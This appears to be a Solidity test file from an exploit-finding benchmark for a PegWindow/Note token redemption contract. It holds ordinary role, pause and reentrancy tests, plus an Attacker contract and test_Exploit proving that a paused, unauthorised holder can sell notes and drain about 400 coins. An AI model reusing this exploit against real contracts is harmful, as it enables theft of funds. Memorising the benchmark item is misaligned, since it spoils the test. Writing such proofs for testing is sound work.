// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./PegWindow.sol";

// assay-canary-fb859351-ad1c-4f2a-bf06-84cfa6b06bea

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20("Coin", "COIN") {
    constructor() {
        _mint(msg.sender, 10_000e18);
    }
}

/// Tries calls from within another, as a token that calls back.
contract Hook is Coin {
    address private _at;
    bytes[] private _calls;
    bool private _armed;
    bool public tried;
    bytes32 private constant LOCKED = keccak256(abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call"));

    function aim(address at, bytes[] memory calls) external {
        _at = at;
        _calls = calls;
    }

    /// Makes a call that calls back.
    function begin(bytes calldata call_) external {
        _armed = true;
        (bool done, ) = _at.call(call_);
        require(done && !_armed, "not begun");
    }

    /// Makes all calls, none from within another.
    function each() external {
        for (uint256 i = 0; i < _calls.length; i++) {
            (bool done, ) = _at.call(_calls[i]);
            require(done, "refused without the lock");
        }
    }

    function _afterTokenTransfer(address from, address to, uint256 amount) internal override {
        super._afterTokenTransfer(from, to, amount);
        if (!_armed) return;
        _armed = false;
        for (uint256 i = 0; i < _calls.length; i++) {
            (bool done, bytes memory answer) = _at.call(_calls[i]);
            require(!done && keccak256(answer) == LOCKED, "not locked");
        }
        tried = true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant GUARD = address(0x60A);
    address private constant TREASURER = address(0x7EA);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Coin private token;
    Note private note;
    PegWindow private window;
    Attacker private mallory;

    function setUp() public {
        token = new Coin();
        note = new Note(token, GUARD);
        window = new PegWindow(note, TREASURER);
        bytes32 redeemer = note.REDEEMER();
        bytes32 role = note.WINDOW();
        vm.startPrank(GUARD);
        note.grantRole(redeemer, ANA);
        note.grantRole(role, address(window));
        vm.stopPrank();
        token.transfer(ANA, 1_000e18);
        token.transfer(BEN, 1_000e18);
        token.transfer(TREASURER, 2_000e18);
        vm.startPrank(TREASURER);
        token.approve(address(window), 2_000e18);
        window.fill(1_000e18);
        vm.stopPrank();
        mallory = new Attacker(window);
        token.approve(address(note), 400e18);
        note.issue(400e18);
        note.transfer(address(mallory), 400e18);
        vm.prank(GUARD);
        note.pause();
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        token.approve(address(window), 300e18);
        window.buy(300e18);
        note.transfer(ANA, 200e18);
        vm.stopPrank();
        vm.prank(GUARD);
        note.unpause();
        vm.startPrank(ANA);
        require(window.sell(100e18) == 99.9e18 && token.balanceOf(ANA) == 1_099.9e18, "sold");
        note.redeem(100e18);
        vm.stopPrank();
        require(token.balanceOf(ANA) == 1_199.9e18 && note.balanceOf(BEN) == 100e18, "redeemed");
        vm.startPrank(TREASURER);
        window.draw(200e18);
        window.fill(100e18);
        vm.stopPrank();
        require(window.reserve() == 1_100.1e18, "reserve");
    }

    function test_RefusesAmounts() public {
        vm.prank(GUARD);
        note.unpause();
        vm.startPrank(ANA);
        vm.expectRevert(Nothing.selector);
        window.buy(0);
        vm.expectRevert(Nothing.selector);
        window.sell(0);
        vm.expectRevert(NotRedeemable.selector);
        window.sell(1);
        token.approve(address(note), 500e18);
        note.issue(500e18);
        vm.stopPrank();
        vm.prank(TREASURER);
        window.draw(900e18);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(OutOfCoins.selector, 100e18));
        window.sell(200e18);
        vm.prank(TREASURER);
        vm.expectRevert(abi.encodeWithSelector(OutOfCoins.selector, 100e18));
        window.draw(101e18);
    }

    function test_RefusesReentry() public {
        Hook hook = new Hook();
        note = new Note(hook, address(this));
        window = new PegWindow(note, TREASURER);
        note.grantRole(note.WINDOW(), address(window));
        note.grantRole(note.REDEEMER(), address(hook));
        hook.transfer(address(hook), 100e18);
        vm.startPrank(address(hook));
        hook.approve(address(window), 100e18);
        window.buy(50e18);
        vm.stopPrank();
        bytes[] memory calls = new bytes[](2);
        calls[0] = abi.encodeCall(window.buy, (1e18));
        calls[1] = abi.encodeCall(window.sell, (1e18));
        hook.aim(address(window), calls);
        hook.begin(calls[0]);
        require(hook.tried(), "not called back");
        hook.each();
    }

    /// What the note answers to an account without a role.
    function missing(bytes32 role) private view returns (bytes memory) {
        string memory account = Strings.toHexString(address(this));
        return abi.encodePacked("AccessControl: account ", account, " is missing role ", Strings.toHexString(uint256(role), 32));
    }

    function test_RefusesToPause() public {
        bytes memory why = missing(0);
        vm.expectRevert(why);
        note.unpause();
        vm.prank(GUARD);
        note.unpause();
        vm.expectRevert(why);
        note.pause();
    }

    function test_RefusesNotes() public {
        vm.expectRevert(bytes("zero"));
        new Note(IERC20(address(0)), GUARD);
        vm.expectRevert(bytes("zero"));
        new Note(token, address(0));
    }

    function test_RefusesStrangers() public {
        vm.expectRevert(NotTreasurer.selector);
        window.draw(1);
        token.approve(address(window), 1);
        vm.expectRevert(NotTreasurer.selector);
        window.fill(1);
        vm.expectRevert();
        note.mint(address(this), 1);
        vm.expectRevert();
        note.burnFrom(ANA, 0);
        vm.expectRevert(bytes("not redeemable"));
        note.redeem(1);
        vm.expectRevert(bytes("zero"));
        new PegWindow(Note(address(0)), TREASURER);
        vm.expectRevert(bytes("zero"));
        new PegWindow(note, address(0));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 390e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(window);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    PegWindow private window;

    constructor(PegWindow w) {
        window = w;
    }

    function run() external {
        window.sell(400e18);
    }
}
